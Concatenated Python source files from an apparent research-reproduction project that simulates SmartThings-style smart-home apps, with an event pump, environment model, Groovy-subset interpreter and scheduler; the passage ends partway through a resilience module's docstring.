            return self._api_http(interp, name, positional, closures, env)
        if name == "now":
            return home.clock.now * 1000.0
        if name == "getWeatherFeature":
            return home.weather.get(str(positional[0]) if positional else "", None)
        if name == "timeOfDayIsBetween":
            if len(positional) >= 3:
                start = self._time_of_day(positional[0])
                stop = self._time_of_day(positional[1])
                now_tod = home.clock.time_of_day()
                if start <= stop:
                    return start <= now_tod <= stop
                return now_tod >= start or now_tod <= stop
            return False
        if name in ("createAccessToken", "revokeAccessToken"):
            return f"token-{self.name}"
        if name in ("pause",):
            return None
        if name in self.module.methods:
            return interp.call_method(name, positional)
        home.warnings.append(f"{self.name}: unmodeled API {name!r} ignored")
        return None

    def _api_subscribe(self, positional) -> None:
        if len(positional) < 2:
            return
        target = positional[0]
        handler = self._method_name(positional[-1])
        attribute = positional[1] if len(positional) >= 3 else None
        value_filter = None
        if isinstance(attribute, str) and "." in attribute:
            attribute, value_filter = attribute.split(".", 1)
        if target is self.location_object:
            self.home.bus.subscribe(
                "location", attribute or "mode",
                lambda event, h=handler: self.handle_event(h, event),
                owner=self.name, value_filter=value_filter,
            )
            return
        if target is self:
            self.home.bus.subscribe(
                "app", attribute or "appTouch",
                lambda event, h=handler: self.handle_event(h, event),
                owner=self.name, value_filter=value_filter,
            )
            return
        proxies: list[DeviceProxy]
        if isinstance(target, DeviceGroupProxy):
            proxies = target.proxies()
        elif isinstance(target, DeviceProxy):
            proxies = [target]
        else:
            self.errors.append("subscribe target is not a device")
            return
        for proxy in proxies:
            self.home.bus.subscribe(
                proxy.device_id, attribute or "unknown",
                lambda event, h=handler: self.handle_event(h, event),
                owner=self.name, value_filter=value_filter,
            )

    def _api_http(self, interp, name, positional, closures, env):
        url = str(positional[0]) if positional else ""
        body = str(positional[1]) if len(positional) > 1 else ""
        self.home.send_message(self.name, "http", url, body)
        if closures:
            response = {"data": self.home.http_response_for(url)}
            return interp.run_closure(closures[0], [response], env)
        return None

    @staticmethod
    def _method_name(value: Any) -> str:
        return str(value)

    @staticmethod
    def _time_of_day(value: Any) -> float:
        """Accept seconds-past-midnight numbers or "HH:mm" strings."""
        if isinstance(value, (int, float)):
            return float(value) % 86400.0
        text = str(value)
        if ":" in text:
            hours, minutes = text.split(":", 1)
            return (int(hours) * 3600 + int(minutes) * 60) % 86400.0
        try:
            return float(text) % 86400.0
        except ValueError:
            return 0.0

    def method_on(self, interp, receiver, name, positional, closures, named, env):
        home = self.home
        if isinstance(receiver, _LogObject):
            return None
        if receiver is self.location_object:
            if name == "setMode":
                home.set_mode(str(positional[0]))
            return None
        if receiver is self.state_object:
            return None
        if isinstance(receiver, _DateObject):
            if name == "format":
                pattern = str(positional[0]) if positional else ""
                if "EEEE" in pattern or "EEE" in pattern:
                    return receiver.weekday_name()
                return str(int(receiver.epoch_seconds))
            if name == "getTime":
                return receiver.epoch_seconds * 1000.0
            return None
        if isinstance(receiver, DeviceProxy):
            return self._device_call(interp, receiver, name, positional,
                                     closures, env)
        if isinstance(receiver, DeviceGroupProxy):
            if name == "each" and closures:
                for proxy in receiver.proxies():
                    interp.run_closure(closures[0], [proxy], env)
                return receiver
            if name == "collect" and closures:
                return [
                    interp.run_closure(closures[0], [proxy], env)
                    for proxy in receiver.proxies()
                ]
            if name == "size":
                return len(receiver.device_ids)
            results = [
                self._device_call(interp, proxy, name, positional, closures, env)
                for proxy in receiver.proxies()
            ]
            return results
        if isinstance(receiver, str):
            return self._string_call(receiver, name, positional)
        if isinstance(receiver, (int, float)):
            if name in ("toInteger", "intValue"):
                return int(receiver)
            if name in ("toFloat", "toDouble", "floatValue", "doubleValue"):
                return float(receiver)
            if name == "toString":
                return Interpreter._to_string(receiver)
            return receiver
        if isinstance(receiver, list):
            return self._list_call(interp, receiver, name, positional,
                                   closures, env)
        if isinstance(receiver, dict):
            if name == "get":
                return receiver.get(positional[0] if positional else None)
            if name == "each" and closures:
                for key, value in receiver.items():
                    interp.run_closure(closures[0], [key, value], env)
                return receiver
            if name == "containsKey":
                return positional[0] in receiver
            return None
        if isinstance(receiver, EventObject):
            return self.property_on(receiver, name)
        if receiver is None:
            return None
        raise InterpreterError(
            f"no method {name!r} on {type(receiver).__name__}"
        )

    def _device_call(self, interp, proxy, name, positional, closures, env):
        device = self.home.device_by_id(proxy.device_id)
        if name in ("currentValue", "latestValue"):
            return device.current_value(str(positional[0]))
        if name in ("currentState", "latestState"):
            value = device.current_value(str(positional[0]))
            return {"value": value, "name": positional[0]}
        if name == "getId":
            return device.id
        if name in ("getDisplayName", "getLabel"):
            return device.label
        if name == "hasCapability":
            wanted = str(positional[0]) if positional else ""
            return device_type(device.type_name).has_capability(wanted)
        if name == "each" and closures:
            interp.run_closure(closures[0], [proxy], env)
            return proxy
        # Everything else is a device command routed through the home.
        self.home.issue_command(self.name, proxy.device_id, name,
                                tuple(positional))
        return None

    @staticmethod
    def _string_call(receiver: str, name: str, positional) -> Any:
        if name == "toInteger":
            return int(float(receiver))
        if name in ("toFloat", "toDouble", "toBigDecimal"):
            return float(receiver)
        if name == "toString":
            return receiver
        if name == "trim":
            return receiver.strip()
        if name == "toLowerCase":
            return receiver.lower()
        if name == "toUpperCase":
            return receiver.upper()
        if name == "contains":
            return str(positional[0]) in receiver
        if name == "startsWith":
            return receiver.startswith(str(positional[0]))
        if name == "endsWith":
            return receiver.endswith(str(positional[0]))
        if name == "split":
            return receiver.split(str(positional[0]))
        if name == "size":
            return len(receiver)
        if name == "equals":
            return receiver == str(positional[0])
        raise InterpreterError(f"no string method {name!r}")

    def _list_call(self, interp, receiver, name, positional, closures, env):
        if name == "each" and closures:
            for item in receiver:
                interp.run_closure(closures[0], [item], env)
            return receiver
        if name == "collect" and closures:
            return [interp.run_closure(closures[0], [item], env)
                    for item in receiver]
        if name == "findAll" and closures:
            return [item for item in receiver
                    if interp.run_closure(closures[0], [item], env)]
        if name == "find" and closures:
            for item in receiver:
                if interp.run_closure(closures[0], [item], env):
                    return item
            return None
        if name == "any" and closures:
            return any(interp.run_closure(closures[0], [item], env)
                       for item in receiver)
        if name == "every" and closures:
            return all(interp.run_closure(closures[0], [item], env)
                       for item in receiver)
        if name == "size":
            return len(receiver)
        if name == "contains":
            return positional[0] in receiver
        if name == "sum":
            return sum(receiver)
        if name in ("first",):
            return receiver[0] if receiver else None
        if name in ("last",):
            return receiver[-1] if receiver else None
        # A command call on a plain list of device proxies fans out.
        if receiver and all(isinstance(item, DeviceProxy) for item in receiver):
            for item in receiver:
                self._device_call(interp, item, name, positional, closures, env)
            return None
        raise InterpreterError(f"no list method {name!r}")


class SmartHome:
    """Top-level simulation: devices + apps + event pump."""

    def __init__(self, name: str = "Home", seed: int = 7) -> None:
        self.name = name
        self.location_id = make_device_id(f"location:{name}")
        self.clock = VirtualClock()
        self.scheduler = Scheduler(self.clock)
        self.bus = EventBus()
        self.environment = Environment()
        self.mode = "Home"
        self.devices: dict[str, SimDevice] = {}
        self._by_label: dict[str, SimDevice] = {}
        self.apps: dict[str, AppInstance] = {}
        self.commands: list[CommandRecord] = []
        self.messages: list[OutboundMessage] = []
        self.errors: list[str] = []
        self.warnings: list[str] = []
        self.weather: dict[str, object] = {}
        self._http_stubs: dict[str, object] = {}
        self._rng = random.Random(seed)
        self._event_queue: deque[Event] = deque()
        self._pending_commands: list[CommandRecord] | None = None
        self.sample_interval = 30.0

    # ------------------------------------------------------------------
    # Devices

    def add_device(
        self,
        label: str,
        type_name: str,
        device_id: str | None = None,
        **initial_state,
    ) -> SimDevice:
        device_id = device_id or make_device_id(f"{self.name}:{label}")
        device = Device(device_id, label, type_name, dict(initial_state))
        sim = SimDevice(device=device, on_change=self._device_changed)
        self.devices[device_id] = sim
        self._by_label[label] = sim
        return sim

    def device_by_id(self, device_id: str) -> SimDevice:
        return self.devices[device_id]

    def device(self, label: str) -> SimDevice:
        return self._by_label[label]

    def _device_changed(self, sim: SimDevice, attribute, old, new) -> None:
        self._event_queue.append(
            Event(
                subject=sim.id,
                name=attribute,
                value=new,
                timestamp=self.clock.now,
                display_name=sim.label,
            )
        )

    # ------------------------------------------------------------------
    # Apps

    def install_app(
        self,
        source: str,
        app_name: str,
        bindings: dict[str, object] | None = None,
        settings: dict[str, object] | None = None,
    ) -> AppInstance:
        """Install an app: parse, bind devices by label, run installed().

        ``bindings`` maps input names to device labels (or lists of
        labels); ``settings`` provides the non-device input values.
        """
        module = parse(source)
        resolved: dict[str, object] = {}
        for input_name, labels in (bindings or {}).items():
            if isinstance(labels, (list, tuple)):
                resolved[input_name] = [self.device(l).id for l in labels]
            else:
                resolved[input_name] = self.device(labels).id
        instance = AppInstance(
            self, app_name, module, resolved, dict(settings or {})
        )
        self.apps[app_name] = instance
        instance.invoke("installed")
        self._pump()
        return instance

    def uninstall_app(self, app_name: str) -> None:
        self.bus.unsubscribe_owner(app_name)
        self.scheduler.cancel_owner(app_name)
        self.apps.pop(app_name, None)

    # ------------------------------------------------------------------
    # Commands, events, messages

    def issue_command(
        self, app_name: str, device_id: str, command: str, params: tuple
    ) -> None:
        record = CommandRecord(
            timestamp=self.clock.now,
            app_name=app_name,
            device_label=self.devices[device_id].label,
            command=command,
            params=params,
        )
        if self._pending_commands is not None:
            self._pending_commands.append(record)
        else:
            self._apply_command(record)

    def _apply_command(self, record: CommandRecord) -> None:
        self.commands.append(record)
        sim = self._by_label[record.device_label]
        before = dict(sim.device.state)
        sim.execute(record.command, record.params, now=self.clock.now)
        if sim.device.state != before:
            effects = device_type(sim.type_name).effects.get(record.command, {})
            self.environment.apply_command_effects(sim.id, effects)

    def set_mode(self, mode: str) -> None:
        if mode == self.mode:
            return
        self.mode = mode
        self._event_queue.append(
            Event(
                subject="location",
                name="mode",
                value=mode,
                timestamp=self.clock.now,
                display_name=self.name,
            )
        )
        self._pump()

    def send_message(
        self, app_name: str, channel: str, target: str, body: str
    ) -> None:
        self.messages.append(
            OutboundMessage(self.clock.now, app_name, channel, target, body)
        )

    def stub_http(self, url_prefix: str, data: object) -> None:
        self._http_stubs[url_prefix] = data

    def http_response_for(self, url: str) -> object:
        for prefix, data in self._http_stubs.items():
            if url.startswith(prefix):
                return data
        return ""

    # ------------------------------------------------------------------
    # Event pump and simulation driving

    def _pump(self) -> None:
        """Deliver queued events; commands buffered per event are applied
        in a seeded-random order to model actuator races."""
        rounds = 0
        while self._event_queue:
            rounds += 1
            if rounds > 10000:
                self.errors.append("event pump runaway; stopping")
                self._event_queue.clear()
                break
            event = self._event_queue.popleft()
            handlers = self.bus.publish(event)
            if not handlers:
                continue
            self._pending_commands = []
            order = list(handlers)
            self._rng.shuffle(order)
            for handler in order:
                handler(event)
            buffered = self._pending_commands
            self._pending_commands = None
            self._rng.shuffle(buffered)
            for record in buffered:
                self._apply_command(record)

    def trigger(self, label: str, attribute: str, value: object) -> None:
        """Externally drive a sensor/device state (a physical actuation
        or spoofed report)."""
        self.device(label).set_attribute(attribute, value)
        self._pump()

    def touch_app(self, app_name: str) -> None:
        """The user taps the app in the companion UI (appTouch)."""
        self._event_queue.append(
            Event("app", "appTouch", "touched", self.clock.now, app_name)
        )
        self._pump()

    def advance(self, seconds: float) -> None:
        """Run the simulation forward: scheduler jobs, environment
        dynamics and periodic sensor sampling."""
        end = self.clock.now + seconds
        while self.clock.now < end:
            step_end = min(end, self.clock.now + self.sample_interval)
            before = self.clock.now
            self.scheduler.run_until(step_end)
            self._pump()
            self.environment.step(self.clock.now - before)
            for sim in self.devices.values():
                sim.sample_channels(self.environment)
            self._pump()
