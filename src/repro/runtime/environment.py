"""Physical-environment model (paper Fig. 1 data layer).

Actuators influence sensor readings either directly (their own device
attribute) or via the environment — e.g. a heater raising the reading of
a temperature sensor.  Channels come in two flavours:

* *integrating* channels (temperature, humidity, energy) accumulate the
  active devices' rates over time,
* *instant* channels (illuminance, sound, power) are the ambient level
  plus the sum of active contributions.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.capabilities.channels import CHANNELS

_INTEGRATING = {"temperature", "humidity", "energy", "co2"}


@dataclass(slots=True)
class Environment:
    """Channel values plus per-device active contributions."""

    values: dict[str, float] = field(default_factory=dict)
    ambient: dict[str, float] = field(default_factory=dict)
    # (device_id, channel) -> active delta.
    contributions: dict[tuple[str, str], float] = field(default_factory=dict)
    # (device_id, channel) -> rate per minute for integrating channels.
    rates: dict[tuple[str, str], float] = field(default_factory=dict)

    def __post_init__(self) -> None:
        defaults = {
            "temperature": 70.0,
            "illuminance": 300.0,
            "humidity": 45.0,
            "power": 120.0,
            "energy": 0.0,
            "sound": 35.0,
            "co2": 450.0,
        }
        for name, value in defaults.items():
            self.ambient.setdefault(name, value)
            self.values.setdefault(name, value)
        for channel in CHANNELS.values():
            self.ambient.setdefault(channel.name, channel.low)
            self.values.setdefault(channel.name, self.ambient[channel.name])

    def apply_command_effects(
        self, device_id: str, effects: dict[str, float]
    ) -> None:
        """Register the channel effects of a command.  The device-type
        tables encode `off` as the negation of `on`, so contributions
        and rates cancel naturally."""
        for channel, delta in effects.items():
            key = (device_id, channel)
            if channel in _INTEGRATING:
                self.rates[key] = max(
                    -1e6, self.rates.get(key, 0.0) + delta
                )
                if abs(self.rates[key]) < 1e-9:
                    del self.rates[key]
            else:
                self.contributions[key] = self.contributions.get(key, 0.0) + delta
                if abs(self.contributions[key]) < 1e-9:
                    del self.contributions[key]
                self._refresh_instant(channel)

    def _refresh_instant(self, channel: str) -> None:
        total = self.ambient.get(channel, 0.0) + sum(
            delta
            for (_, chan), delta in self.contributions.items()
            if chan == channel
        )
        self.values[channel] = self._clamp(channel, total)

    def step(self, dt_seconds: float) -> None:
        """Integrate rate-based channels over ``dt_seconds``."""
        minutes = dt_seconds / 60.0
        for (_, channel), rate in self.rates.items():
            self.values[channel] = self._clamp(
                channel, self.values[channel] + rate * minutes
            )

    def _clamp(self, channel: str, value: float) -> float:
        spec = CHANNELS.get(channel)
        if spec is None:
            return value
        return min(spec.high, max(spec.low, value))

    def read(self, channel: str) -> float:
        return self.values[channel]

    def set_ambient(self, channel: str, value: float) -> None:
        self.ambient[channel] = value
        if channel in _INTEGRATING:
            self.values[channel] = self._clamp(channel, value)
        else:
            self._refresh_instant(channel)
