"""Concrete interpreter for the Groovy-subset DSL.

Executes SmartApp method bodies against a live :class:`SmartHome` (via
the hosting :class:`AppInstance`): device proxies resolve to simulated
devices, ``subscribe``/``runIn``/``schedule`` register with the event
bus and scheduler, and sensitive APIs (sendSms, httpPost, ...) are
recorded as outbound messages.  The interpreter enforces the sandbox's
banned-method list.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from repro.lang import ast_nodes as ast
from repro.runtime.sandbox import check_method_allowed

_MAX_ITERATIONS = 10000
_MAX_CALL_DEPTH = 64


class InterpreterError(Exception):
    """Concrete execution failed (bad program or unsupported API)."""


class _Return(Exception):
    def __init__(self, value: Any) -> None:
        self.value = value


class _Break(Exception):
    pass


@dataclass(slots=True)
class DeviceProxy:
    """What a device input evaluates to inside an app."""

    runtime: Any  # AppInstance (avoids a circular import)
    device_id: str

    @property
    def _device(self):
        return self.runtime.home.device_by_id(self.device_id)

    def display_name(self) -> str:
        return self._device.label


@dataclass(slots=True)
class DeviceGroupProxy:
    runtime: Any
    device_ids: tuple[str, ...]

    def proxies(self) -> list[DeviceProxy]:
        return [DeviceProxy(self.runtime, d) for d in self.device_ids]


@dataclass(slots=True)
class EventObject:
    """The `evt` parameter delivered to handlers."""

    name: str
    value: Any
    device_id: str | None
    display_name: str
    timestamp: float
    state_change: bool = True


class Interpreter:
    """Evaluates statements/expressions for one app instance."""

    def __init__(self, runtime) -> None:
        # `runtime` is the AppInstance: provides module, settings,
        # devices, platform APIs and persistent state.
        self._rt = runtime
        self._depth = 0

    # ------------------------------------------------------------------
    # Entry

    def call_method(self, name: str, args: list[Any] | None = None) -> Any:
        method = self._rt.module.method(name)
        if method is None:
            raise InterpreterError(f"method {name!r} is not defined")
        if self._depth >= _MAX_CALL_DEPTH:
            raise InterpreterError(f"call depth exceeded invoking {name!r}")
        env: dict[str, Any] = {}
        for index, param in enumerate(method.params):
            if args is not None and index < len(args):
                env[param.name] = args[index]
            elif param.default is not None:
                env[param.name] = self._eval(param.default, env)
            else:
                env[param.name] = None
        self._depth += 1
        try:
            self._exec_block(method.body, env)
        except _Return as ret:
            return ret.value
        finally:
            self._depth -= 1
        return None

    # ------------------------------------------------------------------
    # Statements

    def _exec_block(self, block: ast.Block, env: dict[str, Any]) -> None:
        for stmt in block.statements:
            self._exec_stmt(stmt, env)

    def _exec_stmt(self, stmt: ast.Stmt, env: dict[str, Any]) -> None:
        if isinstance(stmt, ast.ExprStmt):
            self._eval(stmt.expr, env)
        elif isinstance(stmt, ast.VarDecl):
            env[stmt.name] = (
                self._eval(stmt.initializer, env)
                if stmt.initializer is not None
                else None
            )
        elif isinstance(stmt, ast.Assignment):
            self._assign(stmt, env)
        elif isinstance(stmt, ast.IfStmt):
            if self._truthy(self._eval(stmt.condition, env)):
                self._exec_block(stmt.then_block, env)
            elif stmt.else_block is not None:
                self._exec_block(stmt.else_block, env)
        elif isinstance(stmt, ast.SwitchStmt):
            self._exec_switch(stmt, env)
        elif isinstance(stmt, ast.ForInStmt):
            self._exec_for(stmt, env)
        elif isinstance(stmt, ast.WhileStmt):
            self._exec_while(stmt, env)
        elif isinstance(stmt, ast.ReturnStmt):
            value = (
                self._eval(stmt.value, env) if stmt.value is not None else None
            )
            raise _Return(value)
        elif isinstance(stmt, ast.BreakStmt):
            raise _Break()
        elif isinstance(stmt, ast.LabeledStmt):
            self._eval(stmt.value, env)
        else:
            raise InterpreterError(
                f"unsupported statement {type(stmt).__name__}"
            )

    def _assign(self, stmt: ast.Assignment, env: dict[str, Any]) -> None:
        value = self._eval(stmt.value, env)
        target = stmt.target
        if stmt.op in ("+=", "-="):
            current = self._eval(target, env)
            value = self._binary(stmt.op[0], current, value)
        if isinstance(target, ast.Identifier):
            env[target.name] = value
        elif isinstance(target, ast.PropertyAccess):
            receiver = self._eval(target.receiver, env)
            if receiver is self._rt.state_object:
                self._rt.state[target.name] = value
            elif receiver is self._rt.location_object and target.name == "mode":
                self._rt.home.set_mode(str(value))
            else:
                raise InterpreterError(
                    f"cannot assign to property {target.name!r}"
                )
        elif isinstance(target, ast.IndexAccess):
            receiver = self._eval(target.receiver, env)
            index = self._eval(target.index, env)
            if receiver is self._rt.state_object:
                self._rt.state[str(index)] = value
            elif isinstance(receiver, (dict, list)):
                receiver[index] = value
            else:
                raise InterpreterError("cannot assign through index")
        else:
            raise InterpreterError("unsupported assignment target")

    def _exec_switch(self, stmt: ast.SwitchStmt, env: dict[str, Any]) -> None:
        subject = self._eval(stmt.subject, env)
        matched = False
        try:
            for case in stmt.cases:
                if not matched:
                    if case.match is None:
                        matched = True
                    else:
                        if self._equal(subject, self._eval(case.match, env)):
                            matched = True
                if matched:
                    self._exec_block(case.body, env)
                    if case.has_break:
                        return
        except _Break:
            return

    def _exec_for(self, stmt: ast.ForInStmt, env: dict[str, Any]) -> None:
        iterable = self._iterable(self._eval(stmt.iterable, env))
        try:
            for item in iterable:
                env[stmt.variable] = item
                self._exec_block(stmt.body, env)
        except _Break:
            return

    def _exec_while(self, stmt: ast.WhileStmt, env: dict[str, Any]) -> None:
        iterations = 0
        try:
            while self._truthy(self._eval(stmt.condition, env)):
                iterations += 1
                if iterations > _MAX_ITERATIONS:
                    raise InterpreterError("while-loop iteration budget exceeded")
                self._exec_block(stmt.body, env)
        except _Break:
            return

    # ------------------------------------------------------------------
    # Expressions

    def _eval(self, expr: ast.Expr, env: dict[str, Any]) -> Any:
        if isinstance(expr, (ast.IntLiteral, ast.DecimalLiteral,
                             ast.StringLiteral, ast.BoolLiteral)):
            return expr.value
        if isinstance(expr, ast.NullLiteral):
            return None
        if isinstance(expr, ast.GStringLiteral):
            pieces = []
            for part in expr.parts:
                if isinstance(part, ast.Expr):
                    pieces.append(self._to_string(self._eval(part, env)))
                else:
                    pieces.append(part)
            return "".join(pieces)
        if isinstance(expr, ast.ListLiteral):
            return [self._eval(element, env) for element in expr.elements]
        if isinstance(expr, ast.MapLiteral):
            return {
                self._map_key(entry.key, env): self._eval(entry.value, env)
                for entry in expr.entries
            }
        if isinstance(expr, ast.RangeLiteral):
            low = int(self._eval(expr.low, env))
            high = int(self._eval(expr.high, env))
            return list(range(low, high + 1))
        if isinstance(expr, ast.Identifier):
            return self._identifier(expr.name, env)
        if isinstance(expr, ast.PropertyAccess):
            return self._property(expr, env)
        if isinstance(expr, ast.IndexAccess):
            receiver = self._eval(expr.receiver, env)
            index = self._eval(expr.index, env)
            if receiver is self._rt.state_object:
                return self._rt.state.get(str(index))
            if isinstance(receiver, dict):
                return receiver.get(index)
            if isinstance(receiver, (list, tuple, str)):
                return receiver[int(index)]
            raise InterpreterError("cannot index this value")
        if isinstance(expr, ast.MethodCall):
            return self._call(expr, env)
        if isinstance(expr, ast.ConstructorCall):
            return self._rt.construct(expr.type_name)
        if isinstance(expr, ast.MethodPointer):
            return expr.name
        if isinstance(expr, ast.BinaryOp):
            if expr.op == "&&":
                return (
                    self._truthy(self._eval(expr.left, env))
                    and self._truthy(self._eval(expr.right, env))
                )
            if expr.op == "||":
                return (
                    self._truthy(self._eval(expr.left, env))
                    or self._truthy(self._eval(expr.right, env))
                )
            return self._binary(
                expr.op, self._eval(expr.left, env), self._eval(expr.right, env)
            )
        if isinstance(expr, ast.UnaryOp):
            operand = self._eval(expr.operand, env)
            if expr.op == "!":
                return not self._truthy(operand)
            if expr.op == "-":
                return -operand
            return operand
        if isinstance(expr, ast.TernaryOp):
            if self._truthy(self._eval(expr.condition, env)):
                return self._eval(expr.if_true, env)
            return self._eval(expr.if_false, env)
        if isinstance(expr, ast.ElvisOp):
            value = self._eval(expr.value, env)
            return value if self._truthy(value) else self._eval(expr.fallback, env)
        if isinstance(expr, ast.ClosureExpr):
            return expr
        if isinstance(expr, ast.CastExpr):
            value = self._eval(expr.value, env)
            if expr.type_name in ("Integer", "int", "Long"):
                return int(value)
            if expr.type_name in ("Float", "Double", "BigDecimal"):
                return float(value)
            if expr.type_name == "String":
                return self._to_string(value)
            return value
        if isinstance(expr, ast.NamedArgument):
            return self._eval(expr.value, env)
        raise InterpreterError(f"unsupported expression {type(expr).__name__}")

    def _map_key(self, key: ast.Expr, env: dict[str, Any]) -> Any:
        value = self._eval(key, env)
        return value

    def _identifier(self, name: str, env: dict[str, Any]) -> Any:
        if name in env:
            return env[name]
        resolved = self._rt.resolve_identifier(name)
        if resolved is not NotImplemented:
            return resolved
        return None

    def _property(self, expr: ast.PropertyAccess, env: dict[str, Any]) -> Any:
        receiver = self._eval(expr.receiver, env)
        return self._rt.property_on(receiver, expr.name)

    def _call(self, expr: ast.MethodCall, env: dict[str, Any]) -> Any:
        check_method_allowed(expr.name)
        positional = []
        closures: list[ast.ClosureExpr] = []
        named: dict[str, Any] = {}
        for arg in expr.args:
            if isinstance(arg, ast.NamedArgument):
                named[arg.name] = self._eval(arg.value, env)
            elif isinstance(arg, ast.ClosureExpr):
                closures.append(arg)
            else:
                positional.append(self._eval(arg, env))
        if expr.receiver is None:
            return self._rt.global_call(
                self, expr.name, positional, closures, named, env
            )
        receiver = self._eval(expr.receiver, env)
        return self._rt.method_on(
            self, receiver, expr.name, positional, closures, named, env
        )

    def run_closure(
        self,
        closure: ast.ClosureExpr,
        args: list[Any],
        env: dict[str, Any],
    ) -> Any:
        # Groovy closures capture the enclosing scope by reference
        # (`uri = uri + ...` inside `.each` must update the outer `uri`),
        # so the body runs in the caller's env with params layered on top
        # and restored afterwards.
        param_names = (
            [param.name for param in closure.params]
            if closure.params
            else (["it"] if args else [])
        )
        saved = {
            name: env[name] for name in param_names if name in env
        }
        for index, name in enumerate(param_names):
            env[name] = args[index] if index < len(args) else None
        try:
            # Groovy closures implicitly return their last expression.
            result: Any = None
            for stmt in closure.body.statements:
                if isinstance(stmt, ast.ExprStmt):
                    result = self._eval(stmt.expr, env)
                else:
                    result = None
                    self._exec_stmt(stmt, env)
            return result
        except _Return as ret:
            return ret.value
        finally:
            for name in param_names:
                if name in saved:
                    env[name] = saved[name]
                else:
                    env.pop(name, None)

    # ------------------------------------------------------------------
    # Semantics helpers

    @staticmethod
    def _truthy(value: Any) -> bool:
        if value is None:
            return False
        if isinstance(value, (list, dict, str)):
            return len(value) > 0
        return bool(value)

    @staticmethod
    def _equal(a: Any, b: Any) -> bool:
        if isinstance(a, (int, float)) and isinstance(b, (int, float)):
            return float(a) == float(b)
        return str(a) == str(b) if (a is not None and b is not None) else a is b

    def _binary(self, op: str, left: Any, right: Any) -> Any:
        if op == "==":
            return self._equal(left, right)
        if op == "!=":
            return not self._equal(left, right)
        if op in ("<", "<=", ">", ">="):
            left_num, right_num = self._coerce_pair(left, right)
            if op == "<":
                return left_num < right_num
            if op == "<=":
                return left_num <= right_num
            if op == ">":
                return left_num > right_num
            return left_num >= right_num
        if op == "+":
            if isinstance(left, str) or isinstance(right, str):
                return self._to_string(left) + self._to_string(right)
            if isinstance(left, list):
                return left + (right if isinstance(right, list) else [right])
            return left + right
        if op == "-":
            return left - right
        if op == "*":
            return left * right
        if op == "/":
            return left / right
        if op == "%":
            return left % right
        if op == "**":
            return left ** right
        if op == "in":
            return left in right
        raise InterpreterError(f"unsupported operator {op!r}")

    @staticmethod
    def _coerce_pair(left: Any, right: Any) -> tuple[float, float]:
        def as_num(value: Any) -> float:
            if isinstance(value, (int, float)):
                return float(value)
            try:
                return float(str(value))
            except (TypeError, ValueError) as exc:
                raise InterpreterError(
                    f"cannot compare non-numeric value {value!r}"
                ) from exc

        return as_num(left), as_num(right)

    @staticmethod
    def _to_string(value: Any) -> str:
        if value is None:
            return "null"
        if isinstance(value, bool):
            return "true" if value else "false"
        if isinstance(value, float) and value.is_integer():
            return str(int(value))
        if isinstance(value, DeviceProxy):
            return value.display_name()
        return str(value)

    @staticmethod
    def _iterable(value: Any):
        if value is None:
            return []
        if isinstance(value, DeviceGroupProxy):
            return value.proxies()
        if isinstance(value, dict):
            return list(value.items())
        if isinstance(value, (list, tuple)):
            return value
        return [value]
