"""Discrete-event scheduler (runIn / runEveryX / schedule substrate)."""

from __future__ import annotations

import heapq
import itertools
from dataclasses import dataclass, field
from typing import Callable

from repro.runtime.clock import VirtualClock


@dataclass(order=True, slots=True)
class _Job:
    due: float
    seq: int
    callback: Callable[[], None] = field(compare=False)
    period: float = field(compare=False, default=0.0)
    owner: str = field(compare=False, default="")
    name: str = field(compare=False, default="")
    cancelled: bool = field(compare=False, default=False)


class Scheduler:
    """Priority-queue scheduler driving the virtual clock."""

    def __init__(self, clock: VirtualClock) -> None:
        self._clock = clock
        self._queue: list[_Job] = []
        self._seq = itertools.count()
        self._jobs_by_key: dict[tuple[str, str], _Job] = {}

    def run_in(
        self,
        delay: float,
        callback: Callable[[], None],
        owner: str = "",
        name: str = "",
        overwrite: bool = True,
    ) -> None:
        """One-shot job after ``delay`` seconds.  Like SmartThings'
        ``runIn``, a later call with the same (owner, name) replaces the
        pending one unless ``overwrite`` is False."""
        key = (owner, name)
        if overwrite and name and key in self._jobs_by_key:
            self._jobs_by_key[key].cancelled = True
        job = _Job(self._clock.now + delay, next(self._seq), callback,
                   owner=owner, name=name)
        if name:
            self._jobs_by_key[key] = job
        heapq.heappush(self._queue, job)

    def run_every(
        self,
        period: float,
        callback: Callable[[], None],
        owner: str = "",
        name: str = "",
    ) -> None:
        job = _Job(self._clock.now + period, next(self._seq), callback,
                   period=period, owner=owner, name=name)
        heapq.heappush(self._queue, job)

    def schedule_daily(
        self,
        time_of_day: float,
        callback: Callable[[], None],
        owner: str = "",
        name: str = "",
    ) -> None:
        """Daily job at ``time_of_day`` seconds past midnight."""
        now_tod = self._clock.now % 86400.0
        delay = (time_of_day - now_tod) % 86400.0
        if delay == 0:
            delay = 86400.0
        job = _Job(self._clock.now + delay, next(self._seq), callback,
                   period=86400.0, owner=owner, name=name)
        heapq.heappush(self._queue, job)

    def cancel_owner(self, owner: str) -> None:
        """SmartThings' ``unschedule()`` for one app."""
        for job in self._queue:
            if job.owner == owner:
                job.cancelled = True

    @property
    def pending(self) -> int:
        return sum(1 for job in self._queue if not job.cancelled)

    def next_due(self) -> float | None:
        while self._queue and self._queue[0].cancelled:
            heapq.heappop(self._queue)
        if not self._queue:
            return None
        return self._queue[0].due

    def run_until(self, deadline: float) -> int:
        """Execute all jobs due up to ``deadline``, advancing the clock;
        returns the number of jobs executed."""
        executed = 0
        while True:
            due = self.next_due()
            if due is None or due > deadline:
                break
            job = heapq.heappop(self._queue)
            if job.cancelled:
                continue
            self._clock.advance_to(max(self._clock.now, job.due))
            if job.name:
                self._jobs_by_key.pop((job.owner, job.name), None)
            job.callback()
            executed += 1
            if job.period > 0 and not job.cancelled:
                renewal = _Job(job.due + job.period, next(self._seq),
                               job.callback, period=job.period,
                               owner=job.owner, name=job.name)
                heapq.heappush(self._queue, renewal)
        self._clock.advance_to(max(self._clock.now, deadline))
        return executed
