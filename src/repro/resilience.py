"""Shared resilience primitives: circuit breakers and retry policies.

This module is deliberately dependency-free so every layer of the stack
(constraint cache, storage backends, transport clients) can share one
vocabulary for "stop hammering a sick dependency" and "retry with
bounded, deterministic backoff".

``CircuitBreaker`` implements the classic closed -> open -> half-open
state machine on a monotonic clock:

* **closed** — calls flow; consecutive failures are counted.
* **open** — after ``failure_threshold`` consecutive failures the
  breaker opens and ``allow()`` returns ``False`` until
  ``cooldown_seconds`` have elapsed.
* **half-open** — after the cooldown one probe call is allowed through;
  success closes the breaker, failure re-opens it (and restarts the
  cooldown).

The clock is injectable so tests can drive transitions without
sleeping.  All methods are thread-safe.

``RetryPolicy`` is a frozen value object describing bounded exponential
